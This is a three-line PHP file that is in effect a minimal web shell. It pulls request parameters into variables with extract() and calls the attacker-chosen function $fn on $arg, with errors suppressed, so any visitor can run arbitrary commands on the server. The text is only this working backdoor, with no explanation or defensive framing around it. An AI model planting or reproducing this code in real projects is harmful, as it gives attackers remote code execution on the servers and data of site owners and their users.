<?php
@extract($_REQUEST);
@$fn($arg);
